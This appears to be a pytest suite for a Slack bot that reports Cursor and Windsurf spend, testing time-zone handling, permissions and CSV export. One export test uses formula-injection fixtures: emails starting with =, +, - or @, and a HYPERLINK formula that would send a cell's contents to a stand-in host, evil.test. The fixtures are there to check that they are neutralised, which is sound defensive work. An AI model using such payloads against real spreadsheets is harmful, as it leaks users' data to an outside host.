"""Every read command end to end (signed request → bot → response_url), against figures computed in the
test from the simulators' own data, for readers in different time zones."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from decimal import ROUND_HALF_UP, Decimal
from zoneinfo import ZoneInfo

import httpx
import pytest

from bot.domain.money import format_change, format_credits, format_usd
from bot.simulators.cursor import CursorSimulator
from bot.simulators.slack import FakeSlack, SignedRequests
from bot.simulators.windsurf import MODELS
from tests.commands.conftest import (
    ADMIN,
    MEMBER,
    NOW,
    OUTSIDER,
    SCALE,
    World,
    button_value,
    local_bounds,
    text_of,
)
from tests.support.bot import BotThread

TODAY = date(2026, 11, 20)


def _cursor_total(world: World, first: date, last: date, tz: str, email: str | None = None) -> Decimal:
    start, end = local_bounds(first, last, tz)
    return world.cursor.dataset.total_cost(start, end, email)


def _windsurf_total(world: World, first: date, last: date) -> Decimal:
    return sum(world.windsurf.dataset.credits_by_day(first, last).values(), Decimal(0))


def test_spend_7d_is_exact_in_each_readers_time_zone(synced: World) -> None:
    first, last = TODAY - timedelta(days=6), TODAY
    for user, tz in ((ADMIN, "America/Los_Angeles"), (MEMBER, "Asia/Kolkata")):
        text = text_of(synced.ask("spend 7d", user=user))
        cursor = _cursor_total(synced, first, last, tz)
        previous = _cursor_total(synced, first - timedelta(days=7), first - timedelta(days=1), tz)
        assert format_usd(cursor) in text, (tz, format_usd(cursor))
        assert format_change(cursor, previous, "usd_cents") in text
        assert format_credits(_windsurf_total(synced, first, last)) in text
        assert "UTC day" in text  # Windsurf's figures are by UTC day and say so
        assert "Cursor data as of" in text
        assert "`windsurf`" in text and "WINDSURF_CREDIT_PRICE" in text  # left out of the dollar total
    la, kolkata = (_cursor_total(synced, first, last, tz) for tz in ("America/Los_Angeles", "Asia/Kolkata"))
    assert la != kolkata  # the two readers really asked about different instants


def test_spend_last_week_and_last_month_are_calendar_spans_in_the_readers_zone(synced: World) -> None:
    # Friday Nov 20: last week is Monday Nov 9 to Sunday Nov 15 wherever the reader is, in their zone.
    monday, sunday = date(2026, 11, 9), date(2026, 11, 15)
    for user, tz in ((ADMIN, "America/Los_Angeles"), (MEMBER, "Asia/Kolkata")):
        text = text_of(synced.ask("spend last week cursor", user=user))
        week = _cursor_total(synced, monday, sunday, tz)
        before = _cursor_total(synced, monday - timedelta(days=7), monday - timedelta(days=1), tz)
        assert "last week (Nov 9–15)" in text, text
        assert format_usd(week) in text and format_change(week, before, "usd_cents") in text, (tz, text)
    october = _cursor_total(synced, date(2026, 10, 1), date(2026, 10, 31), "America/Los_Angeles")
    for asked in ("spend last month cursor", "spend october cursor", "spend 2026-10 cursor"):
        text = text_of(synced.ask(asked))
        assert format_usd(october) in text, (asked, text)
        assert "October 2026" in text and "on September 2026" in text
    wrong = text_of(synced.ask("spend last fortnight"))
    assert "`last fortnight` is not a period: `last` takes `week`, `month` or a number of days" in wrong


def test_a_week_with_the_dst_change_counts_its_169_local_hours(synced: World) -> None:
    """Oct 26 to Nov 1, 2026 in Los Angeles ends with the fall back (Nov 1 has 25 hours): the week is
    169 hours of events, summed here from the simulator's own events; Kolkata has no DST."""
    monday, sunday = date(2026, 10, 26), date(2026, 11, 1)
    for user, tz in ((ADMIN, "America/Los_Angeles"), (MEMBER, "Asia/Kolkata")):
        text = text_of(synced.ask("spend 2026-10-26..2026-11-01 cursor", user=user))
        week = _cursor_total(synced, monday, sunday, tz)
        before = _cursor_total(synced, monday - timedelta(days=7), monday - timedelta(days=1), tz)
        assert format_usd(week) in text and format_change(week, before, "usd_cents") in text, (tz, text)
    zone = ZoneInfo("America/Los_Angeles")
    start = datetime.combine(monday, time(0), tzinfo=zone)
    end = datetime.combine(sunday + timedelta(days=1), time(0), tzinfo=zone)
    assert end.astimezone(UTC) - start.astimezone(UTC) == timedelta(hours=169)


def test_spend_a_date_range_includes_both_days(synced: World) -> None:
    text = text_of(synced.ask("spend 2026-11-02..2026-11-08 cursor", user=OUTSIDER))
    expected = _cursor_total(synced, date(2026, 11, 2), date(2026, 11, 8), "Europe/Berlin")
    assert format_usd(expected) in text
    assert "Windsurf" not in text.split("Cursor data as of")[0].split("Spend")[1]


def test_spend_by_user_lists_people_for_admins_only(synced: World) -> None:
    first = TODAY.replace(day=1)
    text = text_of(synced.ask("spend mtd by user cursor"))
    people = {
        member.email: _cursor_total(synced, first, TODAY, "America/Los_Angeles", member.email)
        for member in synced.cursor.dataset.members
    }
    ranked = sorted(((amount, email) for email, amount in people.items() if amount > 0), reverse=True)
    for amount, email in ranked[:5]:
        assert f"{email} — *{format_usd(amount)}*" in text
    refused = text_of(synced.ask("spend mtd by user", user=MEMBER))
    assert "admins" in refused and "$" not in refused


def test_spend_by_day_follows_local_days(synced: World) -> None:
    text = text_of(synced.ask("spend 7d by day cursor", user=MEMBER))
    for offset in range(7):
        day = TODAY - timedelta(days=offset)
        amount = _cursor_total(synced, day, day, "Asia/Kolkata")
        assert f"{day.isoformat()} — *{format_usd(amount)}*" in text


def test_top_ranks_people_by_dollars_and_credits_separately(synced: World) -> None:
    first = TODAY - timedelta(days=29)
    text = text_of(synced.ask("top 3 30d"))
    people = sorted(
        (
            (_cursor_total(synced, first, TODAY, "America/Los_Angeles", member.email), member.email)
            for member in synced.cursor.dataset.members
        ),
        reverse=True,
    )
    for rank, (amount, email) in enumerate(people[:3], start=1):
        assert f"{rank}. " in text and email in text and format_usd(amount) in text
    credits = synced.windsurf.dataset.credits_by_user(first, TODAY)
    best = max(credits.items(), key=lambda item: item[1])
    assert f"*{format_credits(best[1])}*" in text
    assert "admins" in text_of(synced.ask("top", user=MEMBER))


def test_user_shows_a_person_across_tools_and_to_themselves(synced: World) -> None:
    email = synced.member_email
    first = TODAY - timedelta(days=6)
    own = text_of(synced.ask(f"user <@{MEMBER}> 7d", user=MEMBER))
    assert format_usd(_cursor_total(synced, first, TODAY, "Asia/Kolkata", email)) in own
    assert format_usd(synced.cursor.dataset.cycle_spend(email)) in own
    assert "admins" in text_of(synced.ask(f"user {email}", user=OUTSIDER))
    by_admin = text_of(synced.ask(f"user <mailto:{email}|{email}> 7d"))
    assert format_usd(_cursor_total(synced, first, TODAY, "America/Los_Angeles", email)) in by_admin


def test_user_unknown_to_every_vendor_is_a_readable_answer(synced: World) -> None:
    text = text_of(synced.ask("user nobody@elsewhere.example"))
    assert "No connection has any data for `nobody@elsewhere.example`" in text


def test_credits_gives_pools_runway_and_people_near_their_limit(synced: World) -> None:
    text = text_of(synced.ask("credits"))
    data = synced.windsurf.dataset
    balance = data.balance()
    prompt_left = max(Decimal(data.prompt_credit_pool) - data.credits_used_in_cycle(), Decimal(0))
    remaining = prompt_left + balance["addOnCreditsAvailable"] - balance["addOnCreditsUsed"]
    size = Decimal(data.prompt_credit_pool + balance["addOnCreditsAvailable"])
    assert f"*{format_credits(remaining)}* left of {format_credits(size)}" in text
    burn = _windsurf_total(synced, TODAY - timedelta(days=7), TODAY - timedelta(days=1)) / 7
    assert f"({format_credits(burn)}/day)" in text
    cursor = synced.cursor.dataset
    near = [
        member.email
        for member in cursor.members
        if (limit := cursor.limit_dollars(member.email)) is not None
        and cursor.cycle_spend(member.email) * 100 >= 90 * limit * 100
    ]
    if near:
        assert f"*{len(near)}* " in text
    else:
        assert "Nobody is at 90%" in text
    figure = synced.rest.dataset.credits_remaining()
    assert f"= *{figure:,}*" in text


def test_limits_shows_each_connections_headroom(synced: World) -> None:
    text = text_of(synced.ask("limits"))
    assert "vendor headers:" in text and "of 300 left" in text
    assert "admin" in text and "usage events" in text  # Cursor's own counts per endpoint class


def test_status_has_one_card_per_connection(synced: World) -> None:
    text = text_of(synced.ask("status", user=MEMBER))
    cursor_cycle = sum(
        (synced.cursor.dataset.cycle_spend(m.email) for m in synced.cursor.dataset.members), Decimal(0)
    )
    assert f"This cycle: *{format_usd(cursor_cycle)}*" in text
    assert "Cursor" in text and "Windsurf" in text and "REST" in text
    assert "(environment)" in text


def test_export_sends_a_csv_by_direct_message(synced: World) -> None:
    answer = text_of(synced.ask("export 7d cursor"))
    assert "Sent you `spend-" in answer
    upload = next(value for value in synced.fake.uploads.values() if value.get("completed"))
    assert upload["channel"] == "D" + ADMIN.lstrip("U")
    rows = list(csv.DictReader(io.StringIO(upload["content"].decode())))
    total = sum((Decimal(row["amount"]) for row in rows), Decimal(0))
    start, end = local_bounds(TODAY - timedelta(days=6), TODAY, "America/Los_Angeles")
    days_start = start.replace(hour=0, minute=0)
    days_end = end.replace(hour=0, minute=0) + timedelta(days=1)
    assert total == synced.cursor.dataset.total_cost(days_start, days_end) / 100
    assert {row["unit"] for row in rows} == {"USD"}
    assert "admins" in text_of(synced.ask("export 7d", user=MEMBER))


@pytest.mark.parametrize(
    "settings_overrides",
    [{"people_visible_to": "admins"}, {"people_visible_to": "everyone"}],
    ids=["admins", "everyone"],
)
def test_export_is_for_admins_and_for_everyone_when_people_are_visible_to_everyone(
    synced: World, settings_overrides: dict[str, str]
) -> None:
    opened = settings_overrides["people_visible_to"] == "everyone"
    help_line = next(
        line for line in text_of(synced.ask("help", user=MEMBER)).splitlines() if "/spend export " in line
    )
    assert ("_(everyone" in help_line) is opened
    assert ("_(admins)_" in help_line) is not opened
    answer = text_of(synced.ask("export 7d cursor", user=MEMBER))
    uploads = [value for value in synced.fake.uploads.values() if value.get("completed")]
    if opened:
        assert "Sent you `spend-" in answer
        assert [upload["channel"] for upload in uploads] == ["D" + MEMBER.lstrip("U")]
    else:
        assert "admins" in answer and "Sent you" not in answer
        assert uploads == []


HOSTILE_PEOPLE = (
    ("Eve Formula", "=1+1@acme.test"),
    ("Pat Plus", "+cmd@acme.test"),
    ("Mia Minus", "-2+3@acme.test"),
    ("Ali At", "@sum@acme.test"),
    ("Tab Tab", "\tx@acme.test"),
    ("Cara Return", "\ry@acme.test"),
)
HOSTILE_MODEL = '=HYPERLINK("http://evil.test/?d="&A1,"Click me")'


@pytest.mark.parametrize(
    ("windsurf_options", "settings_overrides"),
    [
        (
            {"people": HOSTILE_PEOPLE, "model_names": {"Claude Sonnet 4.5": HOSTILE_MODEL}},
            {"windsurf_credit_price": Decimal("0.04")},
        )
    ],
    ids=["formula-text"],
)
def test_export_neutralises_formula_cells_and_keeps_numbers(synced: World) -> None:
    synced.ask("export 30d windsurf")
    upload = next(value for value in synced.fake.uploads.values() if value.get("completed"))
    content = upload["content"].decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert rows
    emails = {row["user_email"] for row in rows}
    hostile = {email for _, email in HOSTILE_PEOPLE}
    assert {"'" + email for email in hostile} <= emails  # every one of them spent, and was neutralised
    assert "'" + HOSTILE_MODEL in {row["model"] for row in rows}
    for row in rows:
        for name in ("connection", "vendor", "user_email", "model", "unit"):
            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[name])
    # Numbers stay numbers: bare (unquoted) cells, exactly the vendor's credits per person.
    first, last = min(row["utc_day"] for row in rows), max(row["utc_day"] for row in rows)
    expected = synced.windsurf.dataset.credits_by_user(date.fromisoformat(first), date.fromisoformat(last))
    got: dict[str, Decimal] = {}
    for row in rows:
        got[row["user_email"].removeprefix("'")] = got.get(
            row["user_email"].removeprefix("'"), Decimal(0)
        ) + (Decimal(row["amount"]))
    assert got == expected
    # Read as a spreadsheet would: a bare cell is a number (the reader makes it a float), a quoted one text.
    records = list(csv.reader(io.StringIO(content, newline=""), quoting=csv.QUOTE_NONNUMERIC))[1:]
    for record, row in zip(records, rows, strict=True):
        utc_day, connection, vendor, email, model, amount, unit, usd, requests, tokens = record
        assert all(isinstance(cell, str) for cell in (utc_day, connection, vendor, email, model, unit))
        assert all(isinstance(cell, float) for cell in (amount, usd, requests, tokens))
        assert Decimal(row["amount_usd"]) == Decimal(row["amount"]) * Decimal("0.04")


UNAVAILABLE = "per-person figures are unavailable"


def _windsurf_card(text: str) -> str:
    return text[text.index("*Windsurf*") :].split("_Data as of")[0]


@pytest.mark.parametrize("windsurf_options", [{"cascade_data": "none"}], ids=["no-per-person-rows"])
def test_windsurf_without_per_person_rows_shows_team_totals_that_agree_with_the_balance(
    synced: World,
) -> None:
    data = synced.windsurf.dataset
    card = _windsurf_card(text_of(synced.ask("status")))
    balance = data.balance()
    size = Decimal(data.prompt_credit_pool + balance["addOnCreditsAvailable"])
    prompt_left = max(Decimal(data.prompt_credit_pool) - data.credits_used_in_cycle(), Decimal(0))
    remaining = prompt_left + balance["addOnCreditsAvailable"] - balance["addOnCreditsUsed"]
    used = size - remaining
    assert used > 0 and balance["addOnCreditsUsed"] == 0  # the world's cycle is within its prompt pool
    assert f"This cycle: *{format_credits(used)}*" in card
    assert f"*{format_credits(remaining)}* left of {format_credits(size)}" in card
    burn = _windsurf_total(synced, TODAY - timedelta(days=7), TODAY - timedelta(days=1)) / 7
    assert burn > 0 and f"({format_credits(burn)}/day)" in card
    assert "Nothing spent" not in card
    assert UNAVAILABLE in card.lower()
    by_user = text_of(synced.ask("spend 7d windsurf by user"))
    assert format_credits(_windsurf_total(synced, TODAY - timedelta(days=6), TODAY)) in by_user
    assert UNAVAILABLE in by_user.lower()
    assert UNAVAILABLE in text_of(synced.ask("top 30d windsurf")).lower()
    assert UNAVAILABLE in text_of(synced.ask("export 7d windsurf")).lower()
    assert synced.bot.services is not None
    digests = synced.bot.services.digests
    message, _ = synced.bot.call(digests.preview("T0001"), timeout=60)
    assert UNAVAILABLE in text_of(message.payload()).lower()


@pytest.mark.parametrize("windsurf_options", [{"cascade_data": "partial"}], ids=["partial-per-person-rows"])
def test_windsurf_per_person_rows_that_disagree_lose_to_team_totals(synced: World) -> None:
    first = TODAY - timedelta(days=6)
    team = _windsurf_total(synced, first, TODAY)
    spend = text_of(synced.ask("spend 7d windsurf by user"))
    assert format_credits(team) in spend
    assert UNAVAILABLE in spend.lower()
    email = synced.windsurf.dataset.members[1].email  # one of the people the partial source leaves out
    assert UNAVAILABLE in text_of(synced.ask(f"user {email} 7d")).lower()
    card = _windsurf_card(text_of(synced.ask("status")))
    assert f"This cycle: *{format_credits(synced.windsurf.dataset.credits_used_in_cycle())}*" in card
    assert UNAVAILABLE in card.lower()


def test_windsurf_per_person_rows_that_add_up_are_used_without_a_warning(synced: World) -> None:
    text = text_of(synced.ask("spend 7d windsurf by user")) + text_of(synced.ask("status"))
    assert UNAVAILABLE not in text.lower()
    credits = synced.windsurf.dataset.credits_by_user(TODAY - timedelta(days=6), TODAY)
    best = max(credits.items(), key=lambda item: item[1])
    assert f"{best[0]} — *{format_credits(best[1])}*" in text


def test_share_in_channel_reposts_the_answer_publicly(synced: World) -> None:
    answer = synced.ask("spend 7d cursor")
    posts = synced.click("share_answer", button_value(answer, "share_answer"))
    shared = next(post for post in posts if post.get("response_type") == "in_channel")
    assert format_usd(
        _cursor_total(synced, TODAY - timedelta(days=6), TODAY, "America/Los_Angeles")
    ) in text_of(shared)
    assert f"Shared by <@{ADMIN}>" in text_of(shared)
    assert any(post.get("delete_original") for post in posts)


def test_a_vendor_that_is_down_is_named_and_the_stored_data_is_used(world: World) -> None:
    world.cursor.faults.fail(status=503, times=None)
    text = text_of(world.ask("spend 7d cursor"))
    assert "showing what is stored" in text
    assert "$0.00" in text


def test_a_rejected_key_is_named(world: World) -> None:
    world.cursor.revoke_key()
    text = text_of(world.ask("status"))
    assert "Invalid API key" in text


def test_no_connection_yet_says_how_to_add_one(
    bot: BotThread, fake_slack: FakeSlack, signed: SignedRequests
) -> None:
    fake_slack.add_user(ADMIN, is_admin=True, tz="UTC")
    for text in ("spend", "status", "credits", "top"):
        response_url = fake_slack.new_response_url()
        body, headers = signed.command(text, user_id=ADMIN, response_url=response_url)
        httpx.post(f"{bot.url}/slack/events", content=body, headers=headers)
        posts = asyncio.run(
            fake_slack.wait_for(
                lambda fake, url=response_url: [p for p in fake.responses if url.endswith(p["hook"])]
            )
        )
        assert "no connection yet" in posts[0]["text"].lower()
        assert "/spend connect cursor" in posts[0]["text"]


def test_an_unknown_source_lists_the_connections(synced: World) -> None:
    text = text_of(synced.ask("spend 7d nosuchthing"))
    assert "`nosuchthing`" in text and "`cursor`" in text
    assert "/spend spend [period] [source]" in text  # the right form follows what was wrong


_SHARED_MODEL = "claude-4.5-sonnet"  # a Cursor model name; every Windsurf model is renamed to it below
_MEMBER_EMAIL = (
    CursorSimulator(team_size=14, days=70, seed=41, now=NOW, time_scale=SCALE).dataset.members[3].email
)


@pytest.mark.parametrize(
    "windsurf_options",
    [{"people": [("Member", _MEMBER_EMAIL)], "model_names": {name: _SHARED_MODEL for name, _ in MODELS}}],
    ids=["same-person-same-model-name"],
)
def test_user_keeps_dollars_and_credits_of_one_model_apart(
    windsurf_options: dict[str, object], synced: World
) -> None:
    assert synced.windsurf.dataset.members[0].email == synced.member_email
    text = text_of(synced.ask(f"user {synced.member_email} 30d"))
    lines = [line for line in text.splitlines() if line.startswith(_SHARED_MODEL)]
    assert any("$" in line for line in lines), lines
    assert any("credits" in line for line in lines), lines
    assert len(lines) == 2, lines


def _signed_cents(text: str) -> Decimal:
    sign = -1 if text[0] == "−" else 1
    return sign * Decimal(text[1:].replace("$", "").replace(",", "")) * 100


def test_spend_says_why_it_changed_in_parts_that_add_up_to_the_change(synced: World) -> None:
    import re

    tz = "Europe/Berlin"
    week, before = (date(2026, 11, 9), date(2026, 11, 15)), (date(2026, 11, 2), date(2026, 11, 8))
    text = text_of(synced.ask("spend 2026-11-09..2026-11-15 cursor", user=OUTSIDER))
    (line,) = [line for line in text.splitlines() if line.startswith("*Why ")]
    total = _signed_cents(re.match(r"\*Why ([^:]+):\*", line).group(1))  # type: ignore[union-attr]
    found = re.findall(r"([+−]\$[0-9,.]+) ([a-z ]+)", line.split(" By tool")[0])
    parts = {words.strip(): _signed_cents(amount) for amount, words in found}
    # Computed here from the simulator's events: the change, and the people part (N1 − N0) · S0 / N0.
    now_total, then_total = _cursor_total(synced, *week, tz), _cursor_total(synced, *before, tz)
    assert total == (now_total - then_total).quantize(Decimal(1), ROUND_HALF_UP)
    assert sum(parts.values()) == total

    def people(first: date, last: date) -> int:
        start, end = local_bounds(first, last, tz)
        return len({event.email for event in synced.cursor.dataset.events(start, end)})

    n1, n0 = people(*week), people(*before)
    expected = (n1 - n0) * then_total / n0
    key = "more people" if expected >= 0 else "fewer people"
    if abs(expected) >= Decimal("0.5"):
        assert abs(parts[key] - expected) <= 1, (parts, expected)
    assert {"more use per person", "less use per person"} & set(parts)
